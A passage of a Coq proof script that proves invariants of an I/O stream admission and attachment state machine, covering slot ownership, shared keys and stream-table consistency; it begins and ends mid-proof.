    + destruct (st_ph px); apply (Inv_slots s1); try reflexivity; exact HI1.
    + apply (Inv_slots s1); [reflexivity | exact HI1].
  - exact HI1.
Qed.

(** ** Every operation *)
Lemma fst_with_do s o : fst (with_do s o) = s.  Proof. reflexivity. Qed.

Lemma Inv_step s o : Inv s -> Inv (fst (step s o)).
Proof.
  intros HI. unfold step.
  match goal with |- Inv (fst (let '(s', ob) := ?e in with_do s' ob)) =>
    assert (H : Inv (fst e)); [|destruct e as [s' ob]; exact H] end.
  destruct o as [id d|si so di do_|id|l| |id data e|id|id| |n|id|id l].
  - destruct (get s id); [exact HI|].
    match goal with |- context [get ?a id] => destruct (get a id) as [x|] eqn:E end.
    + apply Inv_admission. apply (Inv_slots s); [reflexivity | exact HI].
    + apply (Inv_slots s); [reflexivity | exact HI].
  - destruct (get s si); [exact HI|]. destruct (get s so); [exact HI|].
    destruct (si =? so); [exact HI|]. apply (Inv_slots s); [reflexivity | exact HI].
  - destruct (get s id) as [x|]; [|exact HI]. destruct (st_ph x); try exact HI. apply Inv_admission, HI.
  - destruct (ich_closed s); [exact HI|].
    match goal with |- context [cin ?a] => destruct (cin a) as [[i sd]|] eqn:E end.
    + match goal with |- context [pump_in ?a ?b] => apply (Inv_slots s); [rewrite slots_pump_in; reflexivity | exact HI] end.
    + apply (Inv_slots s); [reflexivity | exact HI].
  - match goal with |- context [cin ?a] => destruct (cin a) as [[i sd]|] eqn:E end.
    + match goal with |- context [pump_in ?a ?b] => apply (Inv_slots s); [rewrite slots_pump_in; reflexivity | exact HI] end.
    + apply (Inv_slots s); [reflexivity | exact HI].
  - destruct (get s id) as [x|]; [|exact HI].
    destruct (st_ph x); try exact HI. destruct (sd_dir (st_d x)); try exact HI.
    destruct e as [[| | |]|]; apply (Inv_slots s); try reflexivity; exact HI.
  - (* cancel: a fold of cancel_one *)
    generalize (ctx_mates s id). intros l.
    assert (G : forall acc, Inv (fst acc) ->
      Inv (fst (fold_left (fun acc i => let '(sa, oa) := acc in let '(sb, ob) := cancel_one sa i in (sb, obs_app oa ob)) l acc))).
    { induction l as [|i l IH]; intros acc Ha; [exact Ha|]. cbn [fold_left]. apply IH.
      destruct acc as [sa oa]. pose proof (slots_cancel_one sa i) as Hc.
      destruct (cancel_one sa i) as [sb ob]. cbn [fst] in *. apply (Inv_slots sa); assumption. }
    apply G. exact HI.
  - destruct (get s id) as [x|]; [|exact HI]. destruct (st_ph x); try exact HI. apply Inv_release, HI.
  - destruct HI as [H1 H2 H3 H4 H5 H6]. constructor; cbn; assumption.   (* shutdown: nomore only *)
  - exact HI.
  - exact HI.
  - exact HI.
Qed.

(** * Every reachable state *)
Lemma Inv_run_from ops : forall s, Inv s -> Inv (fst (run_from s ops)).
Proof.
  induction ops as [|o ops IH]; intros s HI; [exact HI|].
  cbn [run_from]. pose proof (Inv_step s o HI) as H1.
  destruct (step s o) as [s1 ob]. cbn [fst] in H1.
  specialize (IH s1 H1). destruct (run_from s1 ops) as [s2 obs]. exact IH.
Qed.

Theorem Inv_reachable ops : Inv (fst (run ops)).
Proof. apply Inv_run_from, Inv_init. Qed.

(** Attached streams: right direction each, and the same key when both are attached. *)
Theorem attached_same_key ops : forall a da b db,
  cin (fst (run ops)) = Some (a, da) -> cout (fst (run ops)) = Some (b, db) ->
  sd_dir da = DIn /\ sd_dir db = DOut /\ sd_key da = sd_key db /\ key_missing (sd_key da) = false.
Proof.
  intros a da b db Ea Eb. destruct (Inv_reachable ops) as [H1 H2 H3 H4 H5 H6].
  destruct (H1 _ _ Ea) as [D1 M1]. destruct (H2 _ _ Eb) as [D2 M2].
  destruct (bkey (fst (run ops))) as [k|] eqn:Ek.
  - rewrite (H3 k a da eq_refl Ea), (H4 k b db eq_refl Eb). repeat split; try assumption.
    rewrite <- (H3 k a da eq_refl Ea). exact M1.
  - exfalso. apply H6; [rewrite Ea | rewrite Eb | reflexivity]; discriminate.
Qed.

(** Same /io request: a bidirectional key identifies its request. *)
Corollary attached_same_request ops : forall a da b db r,
  cin (fst (run ops)) = Some (a, da) -> cout (fst (run ops)) = Some (b, db) ->
  sd_key da = KBi r -> sd_key db = KBi r.
Proof.
  intros a da b db r Ea Eb Ek. destruct (attached_same_key ops a da b db Ea Eb) as (_ & _ & E & _). congruence.
Qed.

(** ** The admission decision, exactly *)
Definition accepts (s : bst) (x : stream) : bool :=
  negb (nomore s) && negb (key_missing (sd_key (st_d x))) &&
  negb ((match bkey s with None => true | _ => false end) &&
        (match cin s, cout s with None, None => false | _, _ => true end)) &&
  (match slot s (sd_dir (st_d x)) with None => true | Some _ => false end) &&
  (match bkey s with Some k' => key_eqb (sd_key (st_d x)) k' | None => true end).

Lemma admission_refuses s x : accepts s x = false ->
  fst (admission s x) = upd s (set_phase x PDone) /\
  o_att (snd (admission s x)) = [] /\ o_ret (snd (admission s x)) = [st_id x] /\
  o_w (snd (admission s x)) = [] /\ o_ev (snd (admission s x)) = [] /\
  (nomore s = true -> o_och (snd (admission s x)) = [] /\ o_log (snd (admission s x)) = []) /\
  (nomore s = false -> o_och (snd (admission s x)) = [ONote NRefused (st_id x)] /\
                       exists l, o_log (snd (admission s x)) = [Log l (st_id x)]).
Proof.
  unfold accepts, admission.
  destruct (nomore s) eqn:En; cbn [negb andb].
  { intros _. repeat split; try reflexivity; discriminate. }
  destruct (key_missing (sd_key (st_d x))) eqn:Ekm; cbn [negb andb].
  { intros _. repeat split; try reflexivity; try discriminate; eexists; reflexivity. }
  match goal with |- context [if ?c then refuse _ _ LTeardown else _] => destruct c eqn:Etd end; cbn [negb andb].
  { intros _. repeat split; try reflexivity; try discriminate; eexists; reflexivity. }
  destruct (slot s (sd_dir (st_d x))) as [v|] eqn:Es; cbn [andb].
  { intros _. repeat split; try reflexivity; try discriminate; eexists; reflexivity. }
  destruct (bkey s) as [k'|] eqn:Eb; [|discriminate].
  destruct (key_eqb (sd_key (st_d x)) k') eqn:Ek; cbn [negb]; [discriminate|].
  intros _. repeat split; try reflexivity; try discriminate; eexists; reflexivity.
Qed.

Lemma admission_accepts s x : accepts s x = true ->
  slot (fst (admission s x)) (sd_dir (st_d x)) = Some (st_id x, st_d x) /\
  bkey (fst (admission s x)) = Some (sd_key (st_d x)).
Proof.
  unfold accepts, admission.
  destruct (nomore s) eqn:En; cbn [negb andb]; [discriminate|].
  destruct (key_missing (sd_key (st_d x))) eqn:Ekm; cbn [negb andb]; [discriminate|].
  match goal with |- context [if ?c then refuse _ _ LTeardown else _] => destruct c eqn:Etd end; cbn [negb andb]; [discriminate|].
  destruct (slot s (sd_dir (st_d x))) as [v|] eqn:Es; cbn [andb]; [discriminate|].
  intros Hk.
  assert (Hbk : (match bkey s with Some k' => negb (key_eqb (sd_key (st_d x)) k') | None => false end) = false).
  { destruct (bkey s); [rewrite Hk; reflexivity | reflexivity]. }
  rewrite Hbk.
  destruct (sd_dir (st_d x)) eqn:Ed.
  - match goal with |- context [pump_in ?a ?b] =>
      pose proof (slots_pump_in a b) as Hp; destruct (pump_in a b) as [s2 o2] end.
    cbn [fst snd] in *. unfold slots in Hp. inversion Hp as [[E1 E2 E3 E4]].
    cbn [slot]. rewrite E2, E1. split; reflexivity.
  - split; reflexivity.
Qed.

(** * The stream table: who may receive I/O *)
Definition sig1 (y : stream) : N * sdesc * bool := (st_id y, st_d y, busy y).
Definition sigs (s : bst) := map sig1 (streams s).
Definition ids (s : bst) := map st_id (streams s).

(** [x] agrees with every table entry that carries its id. *)
Definition owns (s : bst) (x : stream) : Prop :=
  forall y, In y (streams s) -> st_id y = st_id x -> sig1 y = sig1 x.

Lemma sigs_upd s x : owns s x -> sigs (upd s x) = sigs s.
Proof.
  unfold owns, sigs. cbn [streams upd]. intros H. rewrite map_map.
  apply map_ext_in. intros y Hy. destruct (st_id y =? st_id x) eqn:E; [|reflexivity].
  apply N.eqb_eq in E. symmetry. apply H; assumption.
Qed.

Lemma streams_set_queue s q : streams (set_queue s q) = streams s. Proof. reflexivity. Qed.

Lemma owns_same s x x' : sig1 x' = sig1 x -> owns s x -> owns s x'.
Proof.
  unfold owns. intros E H y Hy Hid. rewrite E. apply H; [exact Hy|].
  unfold sig1 in E. inversion E. congruence.
Qed.

Lemma owns_upd s x x' : sig1 x' = sig1 x -> owns s x -> owns (upd s x') x.
Proof.
  unfold owns. cbn [streams upd]. intros E H y Hy Hid.
  apply in_map_iff in Hy as (y0 & Ey & Hy0).
  destruct (st_id y0 =? st_id x') eqn:E0.
  - subst y. exact E.
  - subst y. apply H; assumption.
Qed.

Definition quiet (s s' : bst) : Prop := slots s' = slots s /\ sigs s' = sigs s.
Lemma quiet_refl s : quiet s s. Proof. split; reflexivity. Qed.
Lemma quiet_trans a b c : quiet a b -> quiet b c -> quiet a c.
Proof. intros [H1 H2] [H3 H4]. split; congruence. Qed.

Lemma quiet_upd s x : owns s x -> quiet s (upd s x).
Proof. intros H. split; [reflexivity | apply sigs_upd, H]. Qed.

Lemma quiet_finish s x e : owns s x -> busy x = true -> quiet s (fst (finish s x e)).
Proof.
  intros H Hb. cbn [finish fst]. apply quiet_upd.
  apply (owns_same s x); [|exact H]. unfold sig1. cbn. rewrite Hb. reflexivity.
Qed.

Lemma quiet_deliver fuel : forall s x, owns s x -> busy x = true -> quiet s (fst (deliver fuel s x)).
Proof.
  induction fuel as [|f IH]; intros s x Ho Hb; [apply quiet_upd, Ho|].
  cbn [deliver]. destruct (queue s) as [|l q]; [apply quiet_upd, Ho|].
  set (s1 := set_queue s q).
  assert (Ho1 : owns s1 x) by exact Ho.
  assert (Q1 : quiet s s1) by (split; reflexivity).
  set (x1 := {| st_id := st_id x; st_d := st_d x; st_ph := st_ph x; st_nw := st_nw x + 1; st_nf := st_nf x |}).
  assert (S1 : sig1 x1 = sig1 x) by reflexivity.
  assert (Hb1 : busy x1 = true) by exact Hb.
  destruct (optN_eqb (sd_wfail (st_d x)) (st_nw x)).
  - (* write fails *)
    assert (Q2 : quiet s1 (upd s1 x1)) by (apply quiet_upd, (owns_same s1 x); assumption).
    assert (Q3 : quiet (upd s1 x1) (fst (finish (upd s1 x1) x1 true))).
    { apply quiet_finish; [|exact Hb1]. apply (owns_same _ x); [exact S1|]. apply owns_upd; assumption. }
    destruct (finish (upd s1 x1) x1 true) as [s2 o] eqn:Ef. cbn [fst] in *.
    eapply quiet_trans; [exact Q1|]. eapply quiet_trans; [exact Q2 | exact Q3].
  - set (x2 := {| st_id := st_id x1; st_d := st_d x1; st_ph := st_ph x1; st_nw := st_nw x1; st_nf := st_nf x1 + 1 |}).
    assert (S2 : sig1 x2 = sig1 x) by reflexivity.
    assert (Hb2 : busy x2 = true) by exact Hb.
    assert (Rec1 : quiet s (fst (deliver f s1 x1))).
    { eapply quiet_trans; [exact Q1|]. apply IH; [apply (owns_same s1 x); assumption | exact Hb1]. }
    assert (Rec2 : quiet s (fst (deliver f s1 x2))).
    { eapply quiet_trans; [exact Q1|]. apply IH; [apply (owns_same s1 x); assumption | exact Hb2]. }
    assert (Fin2 : quiet s (fst (finish (upd s1 x2) x2 true))).
    { eapply quiet_trans; [exact Q1|].
      eapply quiet_trans; [apply quiet_upd, (owns_same s1 x); [exact S2 | exact Ho1]|].
      apply quiet_finish; [|exact Hb2]. apply (owns_same _ x); [exact S2|]. apply owns_upd; assumption. }
    destruct (sd_wk (st_d x)).
    + destruct (deliver f s1 x1) as [s2 o]. exact Rec1.
    + match goal with |- context [if ?c then _ else _] => destruct c end.
      * destruct (finish (upd s1 x2) x2 true) as [s2 o]. exact Fin2.
      * destruct (deliver f s1 x2) as [s2 o]. exact Rec2.
    + match goal with |- context [if ?c then _ else _] => destruct c end.
      * destruct (finish (upd s1 x2) x2 true) as [s2 o]. exact Fin2.
      * destruct (deliver f s1 x2) as [s2 o]. exact Rec2.
    + match goal with |- context [if ?c then _ else _] => destruct c end.
      * destruct (finish (upd s1 x2) x2 true) as [s2 o]. exact Fin2.
      * destruct (deliver f s1 x2) as [s2 o]. exact Rec2.
Qed.

(** With distinct ids, a table entry owns its id. *)
Lemma get_In s id x : get s id = Some x -> In x (streams s) /\ st_id x = id.
Proof.
  unfold get. intros H. apply find_some in H as [H1 H2]. split; [exact H1 | apply N.eqb_eq; exact H2].
Qed.

Lemma NoDup_ids_inj (l : list stream) : NoDup (map st_id l) ->
  forall a b, In a l -> In b l -> st_id a = st_id b -> a = b.
Proof.
  induction l as [|z l IH]; intros Hn a b Ha Hb E; [destruct Ha|].
  cbn in Hn. inversion Hn as [|? ? Hnz Hnl]; subst.
  destruct Ha as [->|Ha], Hb as [->|Hb]; try reflexivity.
  - exfalso. apply Hnz. rewrite E. apply in_map. exact Hb.
  - exfalso. apply Hnz. rewrite <- E. apply in_map. exact Ha.
  - apply IH; assumption.
Qed.

Lemma owns_of_get s id x : NoDup (ids s) -> get s id = Some x -> owns s x.
Proof.
  intros Hn Hg y Hy E. apply get_In in Hg as [Hx _].
  rewrite (NoDup_ids_inj _ Hn y x Hy Hx E). reflexivity.
Qed.

Lemma ids_sigs s s' : sigs s' = sigs s -> ids s' = ids s.
Proof.
  unfold sigs, ids. intros H.
  assert (E : forall l, map st_id l = map (fun t => fst (fst t)) (map sig1 l))
    by (intros l; rewrite map_map; reflexivity).
  rewrite !E, H. reflexivity.
Qed.

Lemma quiet_pump_in s id : NoDup (ids s) -> quiet s (fst (pump_in s id)).
Proof.
  intros Hn. unfold pump_in. destruct (get s id) as [x|] eqn:Eg; [|apply quiet_refl].
  destruct (st_ph x) eqn:Ep; try apply quiet_refl.
  assert (Hb : busy x = true) by (unfold busy; rewrite Ep; reflexivity).
  pose proof (quiet_deliver (S (length (queue s))) s x (owns_of_get s id x Hn Eg) Hb) as Q1.
  destruct (deliver (S (length (queue s))) s x) as [s1 o1]. cbn [fst] in Q1.
  destruct (get s1 id) as [x1|] eqn:Eg1; [|exact Q1].
  destruct (st_ph x1) eqn:Ep1; try exact Q1.
  destruct (queue s1); [|exact Q1]. destruct (ich_closed s1); [|exact Q1].
  assert (Hn1 : NoDup (ids s1)) by (rewrite (ids_sigs s s1 (proj2 Q1)); exact Hn).
  assert (Hb1 : busy x1 = true) by (unfold busy; rewrite Ep1; reflexivity).
  pose proof (quiet_finish s1 x1 false (owns_of_get s1 id x1 Hn1 Eg1) Hb1) as Q2.
  destruct (finish s1 x1 false) as [s2 o2]. cbn [fst] in *. eapply quiet_trans; eassumption.
Qed.

Lemma quiet_cancel_one s id : NoDup (ids s) -> quiet s (fst (cancel_one s id)).
Proof.
  intros Hn. unfold cancel_one. destruct (get s id) as [x|] eqn:Eg; [|apply quiet_refl].
  destruct (st_ph x) eqn:Ep; try apply quiet_refl.
  apply quiet_finish; [eapply owns_of_get; eassumption | unfold busy; rewrite Ep; reflexivity].
Qed.

(** ** The table invariant: distinct ids; busy streams are exactly the slot holders. *)
Record Tab (s : bst) : Prop := {
  t_nodup : NoDup (ids s);
  t_busy : forall id d, In (id, d, true) (sigs s) -> slot s (sd_dir d) = Some (id, d);
  t_slot : forall dr id d, slot s dr = Some (id, d) -> In (id, d, true) (sigs s)
}.

Lemma slot_slots s s' d : slots s' = slots s -> slot s' d = slot s d.
Proof. unfold slots. intros E. inversion E. destruct d; cbn; congruence. Qed.

Lemma Tab_quiet s s' : quiet s s' -> Tab s -> Tab s'.
Proof.
  intros [Q1 Q2] [T1 T2 T3]. constructor.
  - rewrite (ids_sigs s s' Q2). exact T1.
  - intros id d H. rewrite Q2 in H. rewrite (slot_slots s s' _ Q1). apply T2, H.
  - intros dr id d H. rewrite (slot_slots s s' _ Q1) in H. rewrite Q2. eapply T3, H.
Qed.

Lemma Tab_init : Tab init.
Proof. constructor; cbn; [constructor | intros ? ? [] | intros [] ? ? H; discriminate]. Qed.

(** ** How the table changes when one entry is replaced *)
Lemma ids_upd s x : ids (upd s x) = ids s.
Proof.
  unfold ids. cbn [streams upd]. rewrite map_map. apply map_ext. intros y.
  destruct (st_id y =? st_id x) eqn:E; [apply N.eqb_eq in E; congruence | reflexivity].
Qed.

Lemma in_sigs_upd s x t : In t (sigs (upd s x)) ->
  (t = sig1 x /\ exists y0, In y0 (streams s) /\ st_id y0 = st_id x) \/
  (exists y0, In y0 (streams s) /\ st_id y0 <> st_id x /\ t = sig1 y0).
Proof.
  unfold sigs. cbn [streams upd]. rewrite map_map. intros H.
  apply in_map_iff in H as (y0 & E & Hy0).
  destruct (st_id y0 =? st_id x) eqn:E0.
  - left. split; [congruence|]. exists y0. split; [exact Hy0 | apply N.eqb_eq; exact E0].
  - right. exists y0. split; [exact Hy0|]. split; [apply N.eqb_neq; exact E0 | congruence].
Qed.

Lemma sigs_upd_self s x y0 : In y0 (streams s) -> st_id y0 = st_id x -> In (sig1 x) (sigs (upd s x)).
Proof.
  intros H E. unfold sigs. cbn [streams upd]. rewrite map_map. apply in_map_iff.
  exists y0. split; [|exact H]. rewrite E, N.eqb_refl. reflexivity.
Qed.

Lemma sigs_upd_other s x y0 : In y0 (streams s) -> st_id y0 <> st_id x -> In (sig1 y0) (sigs (upd s x)).
Proof.
  intros H E. unfold sigs. cbn [streams upd]. rewrite map_map. apply in_map_iff.
  exists y0. split; [|exact H]. apply N.eqb_neq in E. rewrite E. reflexivity.
Qed.

Lemma in_sigs s t : In t (sigs s) -> exists y, In y (streams s) /\ t = sig1 y.
Proof. unfold sigs. intros H. apply in_map_iff in H as (y & E & Hy). exists y. split; [exact Hy | congruence]. Qed.

Lemma dir_cases (a b : dir) : a = b \/ a = other b.
Proof. destruct a, b; auto. Qed.
Lemma other_neq d : other d <> d.  Proof. destruct d; discriminate. Qed.

Lemma slot_set_same s d v : slot (set_slot s d v) d = v.  Proof. destruct d; reflexivity. Qed.
Lemma slot_set_other s d v : slot (set_slot s d v) (other d) = slot s (other d).  Proof. destruct d; reflexivity. Qed.

(** ** Admission keeps the table invariant *)
Lemma Tab_admission s x : Inv s -> Tab s -> get s (st_id x) = Some x -> st_ph x = PParked ->
  Tab (fst (admission s x)).
Proof.
  intros HI HT Hg Hp. pose proof HT as [T1 T2 T3].
  assert (Hown : owns s x) by (eapply owns_of_get; eassumption).
  assert (Hnb : busy x = false) by (unfold busy; rewrite Hp; reflexivity).
  destruct (get_In _ _ _ Hg) as [Hx _].
  assert (Refused : Tab (upd s (set_phase x PDone))).
  { apply (Tab_quiet s); [|exact HT]. apply quiet_upd. apply (owns_same s x); [|exact Hown].
    unfold sig1. cbn. rewrite Hnb. reflexivity. }
  destruct (accepts s x) eqn:Ea.
  2:{ destruct (admission_refuses s x Ea) as [E _]. rewrite E. exact Refused. }
  (* accepted *)
  unfold accepts in Ea. repeat (apply andb_true_iff in Ea as [Ea ?]).
  unfold admission.
  match goal with H : negb (nomore s) = true |- _ => apply negb_true_iff in H; rewrite H end.
  match goal with H : negb (key_missing _) = true |- _ => apply negb_true_iff in H; rewrite H end.
  match goal with H : negb (_ && _) = true |- _ => apply negb_true_iff in H; rewrite H end.
  destruct (slot s (sd_dir (st_d x))) as [v|] eqn:Es; [discriminate|].
  assert (Hbk : (match bkey s with Some k' => negb (key_eqb (sd_key (st_d x)) k') | None => false end) = false).
  { destruct (bkey s); [|reflexivity].
    match goal with H : key_eqb _ _ = true |- _ => rewrite H end. reflexivity. }
  rewrite Hbk.
  set (d := sd_dir (st_d x)) in *. set (x' := set_phase x PAttached).
  set (s1 := set_key (set_slot (upd s x') d (Some (st_id x, st_d x))) (Some (sd_key (st_d x)))).
  assert (HT1 : Tab s1).
  { constructor.
    - change (ids s1) with (ids (upd s x')). rewrite ids_upd. exact T1.
    - intros id' d' Hin. change (sigs s1) with (sigs (upd s x')) in Hin.
      apply in_sigs_upd in Hin as [[E _]|(y0 & Hy0 & Hne & E)].
      + unfold sig1 in E. cbn in E. inversion E; subst id' d'.
        change (slot s1 (sd_dir (st_d x))) with (slot (set_slot (upd s x') d (Some (st_id x, st_d x))) d).
        apply slot_set_same.
      + unfold sig1 in E. inversion E as [[E1 E2 E3]]. subst id' d'.
        assert (Hs : slot s (sd_dir (st_d y0)) = Some (st_id y0, st_d y0)).
        { apply T2. unfold sigs. apply in_map_iff. exists y0. split; [unfold sig1; rewrite <- E3; reflexivity | exact Hy0]. }
        destruct (dir_cases (sd_dir (st_d y0)) d) as [Ed|Ed].
        * rewrite Ed, Es in Hs. discriminate.
        * rewrite Ed in *. change (slot s1 (other d)) with (slot (set_slot (upd s x') d (Some (st_id x, st_d x))) (other d)).
          rewrite slot_set_other. exact Hs.
    - intros dr id' d' Hs. change (sigs s1) with (sigs (upd s x')).
      destruct (dir_cases dr d) as [Ed|Ed]; subst dr.
      + change (slot s1 d) with (slot (set_slot (upd s x') d (Some (st_id x, st_d x))) d) in Hs.
        rewrite slot_set_same in Hs. inversion Hs; subst id' d'.
        change (st_id x, st_d x, true) with (sig1 x'). eapply sigs_upd_self; [exact Hx | reflexivity].
      + change (slot s1 (other d)) with (slot (set_slot (upd s x') d (Some (st_id x, st_d x))) (other d)) in Hs.
        rewrite slot_set_other in Hs. change (slot (upd s x') (other d)) with (slot s (other d)) in Hs.
        apply T3 in Hs. apply in_sigs in Hs as (y0 & Hy0 & E).
        assert (Hne : st_id y0 <> st_id x').
        { intro Eid. change (st_id x') with (st_id x) in Eid.
          rewrite (NoDup_ids_inj _ T1 y0 x Hy0 Hx Eid) in E.
          unfold sig1 in E. rewrite Hnb in E. inversion E. }
        rewrite E. apply sigs_upd_other; assumption. }
  destruct d eqn:Ed.
  - match goal with |- context [pump_in ?a ?b] =>
      pose proof (quiet_pump_in a b (t_nodup _ HT1)) as Q; destruct (pump_in a b) as [s2 o2] end.
    cbn [fst] in *. apply (Tab_quiet s1); assumption.
  - exact HT1.
Qed.

(** ** Release keeps the table invariant *)
Lemma Tab_release s x : Inv s -> Tab s -> get s (st_id x) = Some x -> busy x = true ->
  Tab (fst (release s x)).
Proof.
  intros HI HT Hg Hb. pose proof HT as [T1 T2 T3]. destruct HI as [I1 I2 _ _ _ _].
  destruct (get_In _ _ _ Hg) as [Hx _].
  unfold release. set (d := sd_dir (st_d x)). set (x' := set_phase x PDone).
  set (s1 := set_slot (set_key (upd s x') None) d None).
  assert (Hxs : slot s d = Some (st_id x, st_d x)).
  { apply T2. unfold sigs. apply in_map_iff. exists x. split; [unfold sig1; rewrite Hb; reflexivity | exact Hx]. }
  assert (HT1 : Tab s1).
  { constructor.
    - change (ids s1) with (ids (upd s x')). rewrite ids_upd. exact T1.
    - intros id' d' Hin. change (sigs s1) with (sigs (upd s x')) in Hin.
      apply in_sigs_upd in Hin as [[E _]|(y0 & Hy0 & Hne & E)].
      + unfold sig1 in E. cbn in E. inversion E.
      + unfold sig1 in E. inversion E as [[E1 E2 E3]]. subst id' d'.
        assert (Hs : slot s (sd_dir (st_d y0)) = Some (st_id y0, st_d y0)).
        { apply T2. unfold sigs. apply in_map_iff. exists y0. split; [unfold sig1; rewrite <- E3; reflexivity | exact Hy0]. }
        destruct (dir_cases (sd_dir (st_d y0)) d) as [Ed|Ed].
        * rewrite Ed, Hxs in Hs. inversion Hs. exfalso. apply Hne. symmetry. assumption.
        * rewrite Ed in *. change (slot s1 (other d)) with (slot (set_slot (set_key (upd s x') None) d None) (other d)).
          rewrite slot_set_other. exact Hs.
    - intros dr id' d' Hs. change (sigs s1) with (sigs (upd s x')).
      destruct (dir_cases dr d) as [Ed|Ed]; subst dr.
      + change (slot s1 d) with (slot (set_slot (set_key (upd s x') None) d None) d) in Hs.
        rewrite slot_set_same in Hs. discriminate.
      + change (slot s1 (other d)) with (slot (set_slot (set_key (upd s x') None) d None) (other d)) in Hs.
        rewrite slot_set_other in Hs. change (slot (set_key (upd s x') None) (other d)) with (slot s (other d)) in Hs.
        pose proof Hs as Hs'. apply T3 in Hs. apply in_sigs in Hs as (y0 & Hy0 & E).
        assert (Hne : st_id y0 <> st_id x').
        { intro Eid. change (st_id x') with (st_id x) in Eid.
          rewrite (NoDup_ids_inj _ T1 y0 x Hy0 Hx Eid) in E. unfold sig1 in E. inversion E; subst id' d'.
          (* the other slot would hold a stream of direction d *)
          assert (Hd : sd_dir (st_d x) = other d).
          { destruct d eqn:Ed0; cbn in Hs'.
            - destruct (I2 _ _ Hs') as [D _]. exact D.
            - destruct (I1 _ _ Hs') as [D _]. exact D. }
          fold d in Hd. exact (other_neq d (eq_sym Hd)). }
        rewrite E. apply sigs_upd_other; assumption. }
  destruct (slot s1 (other d)) as [[p pd]|] eqn:Es; [|exact HT1].
  set (s2 := {| bkey := bkey s1; cin := cin s1; cout := cout s1; nomore := nomore s1;
                ich_closed := ich_closed s1; queue := queue s1; streams := streams s1;
                cancelled := p :: cancelled s1 |}).
  assert (HT2 : Tab s2) by (apply (Tab_quiet s1); [split; reflexivity | exact HT1]).
  destruct (get s2 p) as [px|] eqn:Egp; [|exact HT2].
  destruct (st_ph px) eqn:Epp; try exact HT2.
  apply (Tab_quiet s2); [|exact HT2].
  apply quiet_finish; [eapply owns_of_get; [exact (t_nodup _ HT2) | exact Egp] | unfold busy; rewrite Epp; reflexivity].
Qed.

(** ** New identities *)
Lemma get_None_notin s id : get s id = None -> ~ In id (ids s).
Proof.
  unfold get, ids. intros H Hin. apply in_map_iff in Hin as (y & E & Hy).
  pose proof (find_none _ _ H y Hy) as Hn. cbn in Hn. rewrite E, N.eqb_refl in Hn. discriminate.
Qed.

Lemma NoDup_snoc {A} (l : list A) x : ~ In x l -> NoDup l -> NoDup (l ++ [x]).
Proof.
  induction l as [|y l IH]; intros Hn Hd; cbn; [constructor; [intros [] | constructor]|].
  inversion Hd as [|? ? Hy Hl]; subst. constructor.
  - intro Hin. apply in_app_or in Hin as [Hin|[Hin|[]]]; [exact (Hy Hin)|]. apply Hn. left. symmetry. exact Hin.
  - apply IH; [intro Hin; apply Hn; right; exact Hin | exact Hl].
Qed.
Lemma find_app_none {A} (f : A -> bool) l r : find f l = None -> find f (l ++ r) = find f r.
Proof. induction l as [|y l IH]; cbn; [reflexivity|]. destruct (f y); [discriminate | exact IH]. Qed.

Lemma Tab_add s id d : Tab s -> get s id = None -> Tab (add_stream s id d PParked).
Proof.
  intros [T1 T2 T3] Hg. constructor.
  - unfold ids. cbn [streams add_stream]. rewrite map_app. cbn [map st_id].
    apply NoDup_snoc; [apply get_None_notin, Hg | exact T1].
  - intros id' d' Hin. unfold sigs in Hin. cbn [streams add_stream] in Hin. rewrite map_app in Hin.
    apply in_app_or in Hin as [Hin|[Hin|[]]]; [|unfold sig1 in Hin; cbn in Hin; inversion Hin].
    change (slot (add_stream s id d PParked) (sd_dir d')) with (slot s (sd_dir d')). apply T2, Hin.
  - intros dr id' d' Hs. unfold sigs. cbn [streams add_stream]. rewrite map_app. apply in_or_app. left.
    eapply T3. exact Hs.
Qed.

Lemma get_add_same s id d p : get s id = None -> get (add_stream s id d p) id =
  Some {| st_id := id; st_d := d; st_ph := p; st_nw := 0; st_nf := 0 |}.
Proof.
  unfold get. cbn [streams add_stream]. intros H.
  assert (G : forall l, find (fun x => st_id x =? id) l = None ->
            find (fun x => st_id x =? id) (l ++ [{| st_id := id; st_d := d; st_ph := p; st_nw := 0; st_nf := 0 |}])
            = Some {| st_id := id; st_d := d; st_ph := p; st_nw := 0; st_nf := 0 |}).
  { induction l as [|y l IH]; intros Hl; cbn.
    - rewrite N.eqb_refl. reflexivity.
    - cbn in Hl. destruct (st_id y =? id); [discriminate | apply IH, Hl]. }
  apply G, H.
Qed.

(** ** Every operation keeps both invariants *)
Lemma Tab_step s o : Inv s -> Tab s -> Tab (fst (step s o)).
Proof.
  intros HI HT. unfold step.
  match goal with |- Tab (fst (let '(s', ob) := ?e in with_do s' ob)) =>
    assert (H : Tab (fst e)); [|destruct e as [s' ob]; exact H] end.
  destruct o as [id d|si so di do_|id|l| |id data e|id|id| |n|id|id l].
  - destruct (get s id) eqn:Eg; [exact HT|].
    rewrite (get_add_same s id d PParked Eg).
    apply Tab_admission.
    + apply (Inv_slots s); [reflexivity | exact HI].
    + apply Tab_add; assumption.
    + cbn [st_id]. apply get_add_same, Eg.
    + reflexivity.
  - destruct (get s si) eqn:E1; [exact HT|]. destruct (get s so) eqn:E2; [exact HT|].
    destruct (si =? so) eqn:E3; [exact HT|]. cbn [fst].
    apply Tab_add; [apply Tab_add; assumption|].
    unfold get in *. cbn [streams add_stream]. rewrite find_app_none; [|exact E2].
    cbn. apply N.eqb_neq in E3. assert ((si =? so) = false) as -> by (apply N.eqb_neq; exact E3). reflexivity.
  - destruct (get s id) as [x|] eqn:Eg; [|exact HT]. destruct (st_ph x) eqn:Ep; try exact HT.
    destruct (get_In _ _ _ Eg) as [_ Eid]. apply Tab_admission; try assumption. rewrite Eid. exact Eg.
  - destruct (ich_closed s); [exact HT|].
    match goal with |- context [cin ?a] => destruct (cin a) as [[i sd]|] eqn:E end.
    + match goal with |- context [pump_in ?a ?b] => apply (Tab_quiet a); [apply quiet_pump_in; exact (t_nodup _ HT)|] end.
      apply (Tab_quiet s); [split; reflexivity | exact HT].
    + apply (Tab_quiet s); [split; reflexivity | exact HT].
  - match goal with |- context [cin ?a] => destruct (cin a) as [[i sd]|] eqn:E end.
    + match goal with |- context [pump_in ?a ?b] => apply (Tab_quiet a); [apply quiet_pump_in; exact (t_nodup _ HT)|] end.
      apply (Tab_quiet s); [split; reflexivity | exact HT].
    + apply (Tab_quiet s); [split; reflexivity | exact HT].
  - destruct (get s id) as [x|] eqn:Eg; [|exact HT].
    destruct (st_ph x) eqn:Ep; try exact HT. destruct (sd_dir (st_d x)); try exact HT.
    assert (Q : forall err, quiet s (fst (finish s x err))).
    { intros err. apply quiet_finish; [eapply owns_of_get; [exact (t_nodup _ HT) | exact Eg] | unfold busy; rewrite Ep; reflexivity]. }
